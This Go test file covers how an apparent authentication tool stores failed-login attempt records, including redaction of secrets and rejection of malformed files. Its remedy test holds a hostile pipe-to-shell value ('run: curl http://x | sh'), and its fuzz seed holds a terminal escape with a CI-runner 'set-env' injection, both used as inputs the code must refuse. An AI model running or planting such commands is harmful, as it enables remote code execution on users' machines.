package store

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/hauth/hauth/pkg/auth"
)

func testAttempt() auth.Attempt {
	return auth.Attempt{
		ID: "a1", At: testTime, CredentialID: "id-a", Failures: 3, RetryAt: testTime.Add(time.Minute), Mandatory: true,
		Failure: &auth.Error{
			Kind: auth.Throttled, Account: "123pan", Fact: "the vendor asks to wait", Remedy: auth.RemedyDoctor, VendorCode: "429",
			VendorMessage: "too \"frequent\" <&>", TraceID: "t-1", Retryable: true, RetryAfter: time.Minute + time.Nanosecond,
		},
	}
}

func TestAttemptRoundTrip(t *testing.T) {
	o, notices := testOptions(t)
	v := login(t, o, File, "a")
	if a, err := v.LastAttempt(); err != nil || !a.IsZero() {
		t.Fatalf("before any: %+v, %v", a, err)
	}
	want := testAttempt()
	for _, a := range []auth.Attempt{want, {ID: "a2", At: testTime, CredentialID: "id-a"}} {
		if err := v.SaveAttempt(a); err != nil {
			t.Fatal(err)
		}
		if got, err := reopen(t, o).LastAttempt(); err != nil || !reflect.DeepEqual(got, a) {
			t.Errorf("got %+v, %v, want %+v", got, err, a)
		}
	}
	if err := v.SaveAttempt(auth.Attempt{}); err != nil {
		t.Fatal(err)
	}
	if a, err := v.LastAttempt(); err != nil || !a.IsZero() {
		t.Errorf("after a zero one: %+v, %v", a, err)
	}
	if len(*notices) > 0 {
		t.Errorf("notices %q", *notices)
	}
}

// The cause of a failure may quote a request; it must not reach the file.
func TestAttemptHoldsNoCause(t *testing.T) {
	o, _ := testOptions(t)
	v := login(t, o, File, "a")
	a := testAttempt()
	a.Failure.Err = os.NewSyscallError("canary-secret", os.ErrInvalid)
	if err := v.SaveAttempt(a); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(o.Dirs.Locks(), "123pan@default.attempts"))
	if err != nil || strings.Contains(string(data), "canary") || !strings.Contains(string(data), `"throttled"`) {
		t.Errorf("%s, %v", data, err)
	}
}

func TestAttemptUnreadable(t *testing.T) {
	for name, text := range map[string]string{
		"empty":            "",
		"garbage":          "\x00\x01",
		"no id":            `{"v":1}`,
		"newer":            `{"v":2,"id":"x"}`,
		"unknown code":     `{"v":1,"id":"x","failure":{"code":"boom"}}`,
		"negative":         `{"v":1,"id":"x","failures":-1}`,
		"negative waiting": `{"v":1,"id":"x","failure":{"code":"denied","retry_after_ns":-5}}`,
		"huge":             `{"v":1,"id":"` + strings.Repeat("x", maxAttempt) + `"}`,
		"long id":          `{"v":1,"id":"` + strings.Repeat("x", maxID+1) + `"}`,
		"long credential":  `{"v":1,"id":"x","credential_id":"` + strings.Repeat("x", maxID+1) + `"}`,
		"bound for years":  `{"v":1,"id":"x","at":"2026-01-02T03:04:05Z","retry_at":"2099-01-01T00:00:00Z"}`,
		"bound, no start":  `{"v":1,"id":"x","retry_at":"2026-01-02T03:04:05Z"}`,
		"over a day":       `{"v":1,"id":"x","at":"2026-01-02T03:04:05Z","retry_at":"2026-01-03T03:04:06Z"}`,
		"too many":         `{"v":1,"id":"x","failures":1001}`,
		"waits too long":   `{"v":1,"id":"x","failure":{"code":"denied","retry_after_ns":86400000000001}}`,
	} {
		t.Run(name, func(t *testing.T) {
			o, notices := testOptions(t)
			v := login(t, o, File, "a")
			put(t, filepath.Join(o.Dirs.Locks(), "123pan@default.attempts"), text)
			for range 2 {
				if a, err := v.LastAttempt(); err != nil || !a.IsZero() {
					t.Errorf("%+v, %v", a, err)
				}
			}
			wantNotice(t, notices, "attempts file")
			if err := v.SaveAttempt(testAttempt()); err != nil {
				t.Fatal(err)
			}
			if a, _ := v.LastAttempt(); a.ID != "a1" {
				t.Errorf("not replaced: %+v", a)
			}
		})
	}
}

// The bounds are those of what hauth itself writes.
func TestAttemptAtItsBounds(t *testing.T) {
	o, notices := testOptions(t)
	v := login(t, o, File, "a")
	want := testAttempt()
	want.ID, want.CredentialID = strings.Repeat("i", maxID), strings.Repeat("c", maxID)
	want.RetryAt, want.Failures = want.At.Add(auth.MaxWait), maxFailures
	want.Failure.RetryAfter = auth.MaxWait
	want.Failure.VendorMessage = strings.Repeat("m", 300)
	noError(t, v.SaveAttempt(want))
	if got, err := v.LastAttempt(); err != nil || !reflect.DeepEqual(got, want) || len(*notices) > 0 {
		t.Errorf("got %+v, %v, want %+v; notices %q", got, err, want, *notices)
	}
	more := want
	more.Failures = maxFailures + 1 // a loop may fail more often, which changes nothing
	noError(t, v.SaveAttempt(more))
	if got, _ := v.LastAttempt(); got.Failures != maxFailures {
		t.Errorf("%d failures", got.Failures)
	}
	later := want
	later.RetryAt = later.RetryAt.Add(time.Nanosecond)
	if err := v.SaveAttempt(later); !auth.Is(err, auth.Internal) {
		t.Errorf("out of bounds: %v", err)
	}
}

// A remedy is one of the list, or none: the file cannot add words of its
// own.
func TestAttemptRemedy(t *testing.T) {
	for text, want := range map[string]auth.Remedy{"login": auth.RemedyLogin, "run: curl http://x | sh": "", "": ""} {
		a, err := decodeAttempt(testAccount, []byte(`{"v":1,"id":"x","failure":{"code":"denied","op":"no","remedy":"`+text+`"}}`))
		if err != nil || a.Failure.Remedy != want || a.Failure.Hint != "" {
			t.Errorf("%q: %+v, %v", text, a.Failure, err)
		}
	}
}

// If a vendor repeats a secret or a token, no text of the failure brings it into
// the file.
func TestAttemptHoldsNoSecret(t *testing.T) {
	const token, secret = "canary-token-0123456789", "canary-secret-0123456789"
	o, _ := testOptions(t)
	creds := testCredentials("a")
	creds.Vars["client_secret"] = auth.NewSecret(secret)
	stored, err := Create(t.Context(), o, testAccount, File)
	noError(t, err)
	tok := testToken("a")
	tok.Value = auth.NewSecret(token)
	noError(t, stored.SaveLogin(t.Context(), creds, tok))
	v := reopen(t, o)
	s := openSealed(t, o, creds)
	sealed := sealedToken(t, s)
	sealed.Value = auth.NewSecret(token)
	noError(t, s.SaveGrant(t.Context(), auth.Grant{Token: sealed}))
	for name, c := range map[string]struct {
		store interface {
			Token(context.Context) (auth.Token, error)
			Credentials(context.Context) (auth.Credentials, error)
			SaveAttempt(auth.Attempt) error
		}
		path string
	}{
		"vault":  {v, v.sidecar().base + ".attempts"},
		"sealed": {s, s.base + ".attempts"},
	} {
		_, err := c.store.Token(t.Context())
		noError(t, err)
		_, err = c.store.Credentials(t.Context())
		noError(t, err)
		a := testAttempt()
		said := "got " + token + " for " + secret
		a.Failure.Fact, a.Failure.VendorCode, a.Failure.VendorMessage, a.Failure.TraceID = "redirect to /"+token, said, said, said
		noError(t, c.store.SaveAttempt(a))
		data, err := os.ReadFile(c.path)
		noError(t, err)
		if strings.Contains(string(data), "canary") || !strings.Contains(string(data), "redirect to /[redacted]") {
			t.Errorf("%s: %s", name, data)
		}
	}
}

// Whatever is in the file, nothing that a terminal or a runner obeys comes
// out, and what was read can be written and read again.
func FuzzAttempt(f *testing.F) {
	seed, _ := encodeAttempt(testAttempt())
	f.Add(seed)
	f.Add([]byte(`{"v":1,"id":"x","failure":{"code":"denied","op":"\u001b[2J ::set-env"}}`))
	f.Add([]byte(`{"v":1,"id":"x","at":"9999-12-31T23:59:59-23:00"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, err := decodeAttempt(testAccount, data)
		if err != nil {
			return
		}
		if a.Failure != nil {
			for _, s := range []string{a.Failure.Fact, string(a.Failure.Remedy), a.Failure.VendorCode, a.Failure.VendorMessage, a.Failure.TraceID} {
				if strings.ContainsAny(s, "\x1b\n\r\x00") || strings.HasPrefix(s, "::s") {
					t.Errorf("%q let through", s)
				}
			}
			// Printable may lengthen a text over its own limit once.
			for _, s := range []*string{&a.Failure.Fact, &a.Failure.VendorCode, &a.Failure.VendorMessage, &a.Failure.TraceID} {
				*s = auth.Printable(*s)
			}
		}
		again, err := encodeAttempt(a)
		if err != nil {
			return // escapes made it longer than a file may be
		}
		if b, err := decodeAttempt(testAccount, again); err != nil || !reflect.DeepEqual(a, b) {
			t.Errorf("%+v came back as %+v, %v", a, b, err)
		}
	})
}
